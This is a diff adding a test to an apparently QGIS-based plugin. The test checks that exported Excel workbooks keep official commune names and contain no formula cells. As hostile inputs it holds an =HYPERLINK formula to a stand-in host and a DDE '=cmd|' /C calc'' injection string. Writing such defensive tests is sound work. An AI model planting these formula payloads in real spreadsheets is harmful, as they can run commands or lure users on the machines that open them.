@@ -200,3 +200,30 @@ def test_no_output_may_be_an_input_and_the_input_is_left_intact(run_alg, tmp_pat
         run_alg("abs:joinindicators", parameters)
     assert "La sortie {}".format(output) in str(error.value) and "rien n'a été écrit" in str(error.value)
     assert (table.read_bytes(), communes.read_bytes()) == before
+
+
+def test_a_table_never_renames_the_communes_and_hostile_names_stay_text(run_alg, tmp_path):
+    """A partner's table with a « nom » column of formulas: the workbook keeps the official names
+    of the geometry layer, and no cell of it is a formula."""
+    header, rows = _comparateur_rows()
+    hostile = tmp_path / "noms_partenaire.csv"
+    lines = ["CODGEO;nom;NB_PARTENAIRE"]
+    lines += ['{};=HYPERLINK("http://exemple.invalid/{}","clic");3'.format(row[0], row[0]) for row in rows]
+    hostile.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    path = _project(
+        tmp_path,
+        '      libelle: "INSEE, comparateur de territoires (RP 2018)"\n',
+        '      libelle: "INSEE, comparateur de territoires (RP 2018)"\n    - table: {}\n'.format(hostile),
+    )
+    text = path.read_text(encoding="utf-8").replace('  nom: "ABS de la CC Ambert', "  nom: \"=cmd|' /C calc'!A1 ABS", 1)
+    path.write_text(text, encoding="utf-8")
+    run_alg("abs:runproject", {"PROJECT": str(path)})
+    workbook = openpyxl.load_workbook(tmp_path / "resultats" / "portrait_social.xlsx")
+    cells = [cell for sheet in workbook.worksheets for line in sheet.iter_rows() for cell in line]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    communes = QgsVectorLayer(str(sample("communes.gpkg")), "communes", "ogr")
+    official = {feature["DEPCOM"]: feature["NOM_DEPCOM"] for feature in communes.getFeatures()}
+    sheet = workbook.worksheets[0]
+    named = {row[1]: row[2] for row in sheet.iter_rows(values_only=True) if row[0] == "commune"}
+    assert named and named == {code: official[code] for code in named}
+    assert any(str(cell.value).startswith("=cmd") for cell in cells)  # the project's name, as text
